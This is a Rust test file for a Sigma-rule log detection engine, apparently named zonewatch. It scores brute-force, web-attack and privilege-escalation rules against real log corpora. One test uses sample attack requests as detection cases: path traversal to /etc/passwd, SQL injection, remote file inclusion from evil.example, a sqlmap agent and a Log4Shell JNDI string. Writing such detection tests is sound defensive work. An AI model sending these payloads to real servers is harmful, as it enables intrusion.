//! zonewatch's own rules (`rules/sigma/zonewatch`) and SigmaHQ's linux rules over the real logs
//! in `../shared/data` (skipped when absent).

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use zonewatch_sigma::{CorrelationLimits, Engine, RuleSet, SigmaConfig, SigmaMatch};
use zonewatch_syslog::{parse, LogRecord, ParseOptions, Timestamp, UtcOffset};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn shared() -> Option<PathBuf> {
    let p = repo().join("../shared/data");
    if p.is_dir() {
        Some(p)
    } else {
        eprintln!("skipping: {} absent", p.display());
        None
    }
}

fn our_rules() -> Arc<RuleSet> {
    let r = RuleSet::load_paths(
        &[repo().join("rules/sigma/zonewatch")],
        &SigmaConfig::default(),
    );
    assert!(r.errors.is_empty(), "{:#?}", r.errors);
    assert!(r.rules.detections.len() >= 7 && r.rules.correlations.len() >= 5);
    Arc::new(r.rules)
}

fn opts() -> ParseOptions {
    ParseOptions {
        sensor_offset: UtcOffset(0),
        extract_fields: true,
    }
}

/// 31 Dec of `year`, 12:00 UTC: BSD timestamps of that file resolve into `year`.
fn year_end(year: i64) -> Timestamp {
    let days = (year - 1970) * 365 + ((year - 1969) / 4);
    Timestamp::from_parts((days + 364) * 86_400 + 43_200, 0)
}

/// One log line of a fail2ban test file with the annotation that precedes it.
struct Annotated {
    line: String,
    note: Option<serde_json::Value>,
    /// The section's `filterOptions` ask for a non-default mode only.
    mode_section: bool,
}

fn fail2ban(path: &Path) -> Vec<Annotated> {
    let text = std::fs::read(path).unwrap();
    let text = String::from_utf8_lossy(&text);
    let mut out = Vec::new();
    let mut note = None;
    let mut mode_section = false;
    for l in text.lines() {
        if let Some(j) = l.strip_prefix("# failJSON:") {
            note = serde_json::from_str(j.trim()).ok();
        } else if let Some(o) = l.strip_prefix("# filterOptions:") {
            // [{}, {"mode": "aggressive"}] includes the default mode; [{"mode": "ddos"}, ...] not.
            let v: serde_json::Value = serde_json::from_str(o.trim()).unwrap_or_default();
            let opts = match v {
                serde_json::Value::Array(a) => a,
                other => vec![other],
            };
            mode_section = !opts.iter().any(|o| o.get("mode").is_none());
        } else if l.starts_with('#') || l.trim().is_empty() {
        } else {
            out.push(Annotated {
                line: l.to_owned(),
                note: note.take(),
                mode_section,
            });
        }
    }
    out
}

/// The annotated time (fail2ban writes it without zone; read as UTC).
fn time_of(note: &Option<serde_json::Value>) -> Option<Timestamp> {
    let t = note.as_ref()?.get("time")?.as_str()?;
    let r = parse(
        format!("<13>1 {t}Z - - - - - x").as_bytes(),
        Timestamp(0),
        None,
        &opts(),
    );
    (r.message == "x" && r.timestamp.0 != 0).then_some(r.timestamp)
}

/// Parses each line with the annotated time (else the previous one) as the receive time: it is
/// the year reference for BSD timestamps and the time of lines that carry none (journal).
fn records(lines: &[Annotated]) -> Vec<LogRecord> {
    let mut now = year_end(2005);
    lines
        .iter()
        .map(|a| {
            if let Some(t) = time_of(&a.note) {
                now = t;
            }
            parse(a.line.as_bytes(), now, None, &opts())
        })
        .collect()
}

fn rule_index(rules: &RuleSet, id_or_name: &str) -> usize {
    rules
        .detections
        .iter()
        .position(|r| r.meta.id == id_or_name || r.meta.name.as_deref() == Some(id_or_name))
        .unwrap()
}

#[derive(Default, Debug)]
struct Score {
    positives: usize,
    found: usize,
    flagged: usize,
    correct_flags: usize,
    mode_only_found: usize,
    multiline: usize,
}

/// Per-line evaluation of a detection rule against fail2ban's `failJSON` annotations:
/// recall over lines fail2ban flags in its default mode with a host; precision over every flag
/// on an annotated line (correct = fail2ban flags that line, in some mode, with that host).
fn score(file: &Path, rule_names: &[&str], rules: &RuleSet, verbose: bool) -> Score {
    let lines = fail2ban(file);
    let recs = records(&lines);
    let want: Vec<usize> = rule_names.iter().map(|r| rule_index(rules, r)).collect();
    let mut s = Score::default();
    let mut hits = Vec::new();
    for (a, r) in lines.iter().zip(&recs) {
        let Some(note) = &a.note else { continue };
        let matched = note["match"].as_bool().unwrap_or(false);
        let host = note.get("host").and_then(|h| h.as_str());
        let constraint = note
            .get("constraint")
            .and_then(|c| c.as_str())
            .unwrap_or("");
        let mode_dependent = constraint.contains("mode");
        Engine::matching_rules(rules, r, &mut hits);
        let flagged = hits
            .iter()
            .any(|h| want.contains(h))
            .then(|| r.field("src_host").unwrap_or("").to_owned());
        // fail2ban also attributes lines by session (it follows the sshd pid across lines): it
        // marks lines that do not name the host, and the "Accepted" line closing a session
        // that had a PAM failure. A per-line failure rule cannot (and, for a successful login,
        // must not) flag those; they are counted apart.
        let in_line = host.is_some_and(|h| a.line.contains(h));
        if matched && host.is_some() && (!in_line || a.line.contains(": Accepted ")) {
            s.multiline += 1;
            continue;
        }
        let default_mode_positive = matched && host.is_some() && !mode_dependent && !a.mode_section;
        if default_mode_positive {
            s.positives += 1;
        }
        if let Some(h) = &flagged {
            if mode_dependent && !matched {
                continue; // fail2ban flags it in some other mode: neither right nor wrong here
            }
            s.flagged += 1;
            let ok = matched && host.is_none_or(|want| want == h);
            if ok {
                s.correct_flags += 1;
                if default_mode_positive {
                    s.found += 1;
                } else {
                    s.mode_only_found += 1;
                }
            } else {
                if verbose {
                    eprintln!("false flag ({h}): {}", a.line);
                }
            }
        } else if default_mode_positive && verbose {
            eprintln!("missed ({}): {}", host.unwrap_or(""), a.line);
        }
    }
    s
}

/// The detection rules feeding the SSH brute-force correlations.
/// `zw_ssh_pam_failure` also feeds them but is not scored per line: fail2ban counts a pam_unix
/// failure only when sshd logs no "Failed password" for the same session (one attempt, two
/// lines), which needs session state; its numbers are printed for information.
const SSH_FAILURE_RULES: &[&str] = &["zw_ssh_auth_failure"];

#[test]
fn fail2ban_sshd_recall_and_precision() {
    let Some(data) = shared() else { return };
    let rules = our_rules();
    for f in ["sshd", "sshd-journal"] {
        let s = score(
            &data.join("logs/fail2ban").join(f),
            SSH_FAILURE_RULES,
            &rules,
            true,
        );
        let recall = s.found as f64 / s.positives as f64;
        let precision = s.correct_flags as f64 / s.flagged as f64;
        println!(
            "fail2ban/{f}: recall {:.1}% ({}/{}), precision {:.1}% ({}/{}), plus {} mode-only matches; {} session-attributed annotations not scored",
            recall * 100.0,
            s.found,
            s.positives,
            precision * 100.0,
            s.correct_flags,
            s.flagged,
            s.mode_only_found,
            s.multiline
        );
        let p = score(
            &data.join("logs/fail2ban").join(f),
            &["zw_ssh_pam_failure"],
            &rules,
            false,
        );
        println!(
            "  (zw_ssh_pam_failure alone: {} flags, {} agree with fail2ban)",
            p.flagged, p.correct_flags
        );
        assert!(s.positives >= 50, "{f}: {s:?}");
        assert!(recall >= 0.95, "{f}: recall {recall} {s:?}");
        assert!(precision >= 0.99, "{f}: precision {precision} {s:?}");
    }
}

fn run(rules: &Arc<RuleSet>, recs: &[LogRecord]) -> Vec<SigmaMatch> {
    let mut e = Engine::new(Arc::clone(rules), CorrelationLimits::default());
    let mut out = Vec::new();
    for r in recs {
        e.process(r, &mut out);
    }
    e.flush(&mut out);
    out
}

fn corr_groups(alerts: &[SigmaMatch], title_parts: &[&str]) -> BTreeMap<String, u64> {
    let mut m = BTreeMap::new();
    for a in alerts
        .iter()
        .filter(|a| title_parts.iter().any(|t| a.title.contains(t)))
    {
        let c = a.correlation.as_ref().unwrap();
        *m.entry(c.group[0].1.clone()).or_insert(0) += c.count;
    }
    m
}

/// Addresses that appear only in accepted logins (never in any other line).
fn success_only(recs: &[LogRecord]) -> BTreeSet<String> {
    let mut ok = BTreeSet::new();
    let mut other = BTreeSet::new();
    for r in recs {
        if let Some(h) = r.field("src_host") {
            if r.message.starts_with("Accepted ") {
                ok.insert(h.to_owned());
            } else {
                other.insert(h.to_owned());
            }
        }
    }
    ok.difference(&other).cloned().collect()
}

const BRUTE: &[&str] = &["SSH Brute Force", "SSH Repeated Authentication Failures"];

#[test]
fn brute_force_alerts_name_the_attacker_and_never_a_success_only_address() {
    let Some(data) = shared() else { return };
    let rules = our_rules();
    // loghub Linux: 2005, no year in the lines.
    let text = std::fs::read(data.join("logs/loghub/Linux/Linux_2k.log")).unwrap();
    let recs: Vec<LogRecord> = text
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| parse(l, year_end(2005), None, &opts()))
        .collect();
    let alerts = run(&rules, &recs);
    let bf = corr_groups(&alerts, BRUTE);
    println!("loghub Linux brute force groups: {bf:?}");
    assert!(bf.contains_key("218.188.2.4"), "{bf:?}");
    let spray = corr_groups(&alerts, &["Password Spraying"]);
    println!("loghub Linux spraying groups: {spray:?}");
    for a in &alerts {
        let c = a.correlation.as_ref();
        assert!(c.is_none_or(|c| c.window_end.0 - c.window_start.0 <= 3_600_000_000_000));
    }

    for f in ["sshd", "sshd-journal"] {
        let lines = fail2ban(&data.join("logs/fail2ban").join(f));
        let recs = records(&lines);
        let alerts = run(&rules, &recs);
        let bf = corr_groups(&alerts, BRUTE);
        println!("fail2ban/{f} brute force groups: {bf:?}");
        assert!(!bf.is_empty(), "{f}: no brute-force alert");
        // fail2ban's own test: 192.0.2.1 etc. The most frequent annotated failing host must be named.
        let mut counts: BTreeMap<String, usize> = BTreeMap::new();
        for a in &lines {
            if let Some(n) = &a.note {
                if n["match"].as_bool() == Some(true) {
                    if let Some(h) = n.get("host").and_then(|h| h.as_str()) {
                        *counts.entry(h.to_owned()).or_default() += 1;
                    }
                }
            }
        }
        let top = counts.iter().max_by_key(|(_, c)| **c).unwrap().0.clone();
        assert!(
            bf.contains_key(&top),
            "{f}: top attacker {top} not named: {bf:?}"
        );
        let good = success_only(&recs);
        println!("fail2ban/{f}: success-only addresses {good:?}");
        for a in alerts
            .iter()
            .filter(|a| a.correlation.is_some() && a.title.starts_with("SSH"))
        {
            let g = &a.correlation.as_ref().unwrap().group[0].1;
            assert!(
                !good.contains(g),
                "{f}: success-only {g} named by {}",
                a.title
            );
        }
    }
}

#[test]
fn web_rules_flag_fail2ban_annotated_hosts() {
    let Some(data) = shared() else { return };
    let rules = our_rules();
    // apache-botsearch annotates only its list of bot targets; our rule flags every missing
    // script, so a few "not found" lines fail2ban ignores count against us there.
    for (file, rule, min_recall, min_precision) in [
        ("php-url-fopen", "zw_web_attack_request", 1.0, 0.99),
        ("nginx-http-auth", "zw_web_auth_failure", 0.9, 0.99),
        ("apache-noscript", "zw_web_not_found", 0.9, 0.99),
        ("apache-botsearch", "zw_web_not_found", 0.9, 0.9),
    ] {
        let s = score(
            &data.join("logs/fail2ban").join(file),
            &[rule],
            &rules,
            true,
        );
        let recall = s.found as f64 / s.positives.max(1) as f64;
        let precision = s.correct_flags as f64 / s.flagged.max(1) as f64;
        println!(
            "fail2ban/{file} ({rule}): recall {:.1}% ({}/{}), precision {:.1}% ({}/{})",
            recall * 100.0,
            s.found,
            s.positives,
            precision * 100.0,
            s.correct_flags,
            s.flagged
        );
        assert!(s.positives > 0, "{file}");
        assert!(recall >= min_recall, "{file}: {s:?}");
        assert!(precision >= min_precision, "{file}: {s:?}");
    }
}

#[test]
fn sigmahq_linux_rules_load() {
    let Some(data) = shared() else { return };
    let r = RuleSet::load_paths(&[data.join("sigma/rules/linux")], &SigmaConfig::default());
    println!(
        "SigmaHQ linux: {} files, {} rules loaded ({} inactive: log source not in syslog), {} errors",
        r.files,
        r.rules.detections.len(),
        r.rules.inactive,
        r.errors.len()
    );
    for e in &r.errors {
        println!("  {e}");
    }
    assert_eq!(r.files, 210);
    assert_eq!(r.rules.detections.len() + r.errors.len(), 210);
    assert!(r.rules.detections.len() >= 205, "{:#?}", r.errors);
    // SigmaHQ's sshd rule fires on the fail2ban sshd log's crc32/negotiation errors? At least
    // the rules gated to sshd/auth/syslog must be active.
    assert!(r.rules.detections.len() - r.rules.inactive >= 60);
}

/// The literal prefilter never changes which rules match (SigmaHQ linux with every rule
/// evaluated, plus ours, over every real log line).
#[test]
fn prefilter_never_drops_a_match() {
    let Some(data) = shared() else { return };
    let cfg = SigmaConfig {
        ignore_logsource: true,
        ..Default::default()
    };
    let load = || {
        let r = RuleSet::load_paths(
            &[
                data.join("sigma/rules/linux"),
                repo().join("rules/sigma/zonewatch"),
            ],
            &cfg,
        );
        assert!(r.errors.is_empty());
        r.rules
    };
    let with = load();
    let without = load().without_prefilter();
    let mut n = 0;
    let (mut a, mut b) = (Vec::new(), Vec::new());
    let mut total = 0;
    for f in [
        "logs/loghub/Linux/Linux_2k.log",
        "logs/loghub/Mac/Mac_2k.log",
        "logs/loghub/Apache/Apache_2k.log",
        "logs/fail2ban/sshd",
        "logs/fail2ban/apache-botsearch",
        "logs/fail2ban/nginx-http-auth",
        "logs/elastic-beats/iptables/log/test/geo.log",
        "logs/elastic-beats/system/auth/test/timestamp.log",
    ] {
        let text = std::fs::read(data.join(f)).unwrap();
        for l in text.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
            let r = parse(l, year_end(2010), None, &opts());
            Engine::matching_rules(&with, &r, &mut a);
            Engine::matching_rules(&without, &r, &mut b);
            assert_eq!(a, b, "{}", String::from_utf8_lossy(l));
            total += a.len();
            n += 1;
        }
    }
    println!("prefilter check: {n} lines, {total} matches");
    assert!(n > 6000 && total > 100, "{n} {total}");
}

/// The privilege rules stay quiet on the real logs (loghub's root `su` sessions, the
/// elastic-beats sudo session) and fire on the failures sudo and su write.
#[test]
fn privilege_rules_quiet_on_real_logs_fire_on_failures() {
    let Some(data) = shared() else { return };
    let rules = our_rules();
    let mut recs = Vec::new();
    for f in [
        "logs/loghub/Linux/Linux_2k.log",
        "logs/elastic-beats/system/auth/test/timestamp.log",
    ] {
        let text = std::fs::read(data.join(f)).unwrap();
        recs.extend(
            text.split(|&b| b == b'\n')
                .filter(|l| !l.is_empty())
                .map(|l| parse(l, year_end(2005), None, &opts())),
        );
    }
    let su_sessions = recs
        .iter()
        .filter(|r| r.app_name.as_deref() == Some("su(pam_unix)"))
        .count();
    assert!(su_sessions > 10);
    let alerts = run(&rules, &recs);
    assert!(
        !alerts
            .iter()
            .any(|a| a.title.contains("sudo") || a.title.contains("Privilege")),
        "{:?}",
        alerts.iter().map(|a| &a.title).collect::<Vec<_>>()
    );

    let lines = [
        "Nov 25 20:30:01 web1 sudo: pam_unix(sudo:auth): authentication failure; logname=taro uid=1000 euid=0 tty=/dev/pts/0 ruser=taro rhost=  user=taro",
        "Nov 25 20:30:09 web1 sudo:     taro : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/taro ; USER=root ; COMMAND=/bin/bash",
        "Nov 25 20:31:00 web1 su: FAILED SU (to root) taro on pts/0",
        "Nov 25 20:32:00 web1 sudo:   hanako : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/hanako ; USER=root ; COMMAND=/usr/bin/id",
        "Nov 25 20:40:00 web1 sudo:     jiro : TTY=pts/2 ; PWD=/home/jiro ; USER=root ; COMMAND=/bin/bash",
    ];
    let recs: Vec<LogRecord> = lines
        .iter()
        .map(|l| parse(l.as_bytes(), year_end(2026), None, &opts()))
        .collect();
    let alerts = run(&rules, &recs);
    let titles: Vec<&str> = alerts.iter().map(|a| a.title.as_str()).collect();
    let failures = titles
        .iter()
        .filter(|t| t.starts_with("Failed Privilege Elevation"))
        .count();
    assert_eq!(failures, 4, "{titles:?}");
    let burst = alerts
        .iter()
        .find(|a| a.title.starts_with("Repeated Failed sudo/su"))
        .expect("elevation brute force");
    assert_eq!(burst.correlation.as_ref().unwrap().group[0].1, "web1");
    // `COMMAND=/bin/bash` twice: the failed attempt and jiro's successful root shell.
    let shells = titles.iter().filter(|t| t.starts_with("sudo Used")).count();
    assert_eq!(shells, 2, "{titles:?}");
}

/// Web attack rule on access-log lines (the rule files ship with the repository, so this runs
/// without the shared corpus).
#[test]
fn web_attack_rule_on_access_logs() {
    let rules = our_rules();
    let want = rule_index(&rules, "zw_web_attack_request");
    let check = |line: &str| {
        let r = parse(line.as_bytes(), year_end(2026), None, &opts());
        let mut hits = Vec::new();
        Engine::matching_rules(&rules, &r, &mut hits);
        hits.contains(&want)
    };
    for bad in [
        r#"203.0.113.7 - - [25/Nov/2026:20:30:45 +0900] "GET /cgi-bin/../../etc/passwd HTTP/1.1" 400 0 "-" "curl/8""#,
        r#"203.0.113.7 - - [25/Nov/2026:20:30:46 +0900] "GET /item.php?id=1%20UNION%20SELECT%201,2 HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
        r#"203.0.113.7 - - [25/Nov/2026:20:30:47 +0900] "GET /index.php?page=http://evil.example/x.txt HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
        r#"203.0.113.7 - - [25/Nov/2026:20:30:48 +0900] "GET / HTTP/1.1" 200 5 "-" "sqlmap/1.7""#,
        r#"203.0.113.7 - - [25/Nov/2026:20:30:49 +0900] "GET /?q=${jndi:ldap://x/a} HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
    ] {
        assert!(check(bad), "{bad}");
    }
    for good in [
        r#"192.0.2.10 - - [25/Nov/2026:20:30:45 +0900] "GET /kurashi/gomi/index.html HTTP/1.1" 200 5120 "-" "Mozilla/5.0""#,
        r#"192.0.2.10 - - [25/Nov/2026:20:30:45 +0900] "GET /search?q=selection HTTP/1.1" 200 5120 "-" "Mozilla/5.0""#,
    ] {
        assert!(!check(good), "{good}");
    }
}

/// `Engine::process_deferred` on records parsed without field extraction (what the binary
/// does) gives the same alerts — records included — and counters as `process` on records parsed
/// with extraction: SigmaHQ linux, ours, both, and both with log sources ignored, over every
/// line of the shared logs.
#[test]
fn deferred_extraction_gives_the_same_alerts() {
    let Some(data) = shared() else { return };
    let load = |paths: &[PathBuf], ignore_logsource: bool| {
        let cfg = SigmaConfig {
            ignore_logsource,
            ..Default::default()
        };
        let r = RuleSet::load_paths(paths, &cfg);
        assert!(r.errors.is_empty());
        Arc::new(r.rules)
    };
    let (sigmahq, ours) = (data.join("sigma/rules/linux"), repo().join("rules/sigma"));
    let sets = [
        load(std::slice::from_ref(&sigmahq), false),
        load(std::slice::from_ref(&ours), false),
        load(&[sigmahq.clone(), ours.clone()], false),
        load(&[sigmahq, ours], true),
    ];
    fn all_files(p: &Path, out: &mut Vec<PathBuf>) {
        if p.is_dir() {
            let mut v: Vec<_> = std::fs::read_dir(p)
                .unwrap()
                .map(|e| e.unwrap().path())
                .collect();
            v.sort();
            for e in v {
                all_files(&e, out);
            }
        } else {
            out.push(p.to_path_buf());
        }
    }
    let mut files = Vec::new();
    all_files(&data.join("logs"), &mut files);
    let eager = opts();
    let lazy = ParseOptions {
        extract_fields: false,
        ..eager
    };
    let mut alerts = [0usize; 4];
    for f in &files {
        let Ok(text) = std::fs::read(f) else { continue };
        for (si, rules) in sets.iter().enumerate() {
            let mut a = Engine::new(Arc::clone(rules), CorrelationLimits::default());
            let mut b = Engine::new(Arc::clone(rules), CorrelationLimits::default());
            let (mut oa, mut ob) = (Vec::new(), Vec::new());
            for l in text.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
                a.process(&parse(l, year_end(2010), None, &eager), &mut oa);
                let mut r = parse(l, year_end(2010), None, &lazy);
                b.process_deferred(&mut r, &mut ob);
            }
            a.flush(&mut oa);
            b.flush(&mut ob);
            assert_eq!(oa, ob, "{}: set {si}", f.display());
            assert_eq!(a.stats(), b.stats(), "{}: set {si}", f.display());
            alerts[si] += oa.len();
        }
    }
    println!(
        "deferred extraction: {} files, alerts per set {alerts:?}",
        files.len()
    );
    assert!(alerts[1] > 100 && alerts[3] > alerts[1], "{alerts:?}");
}
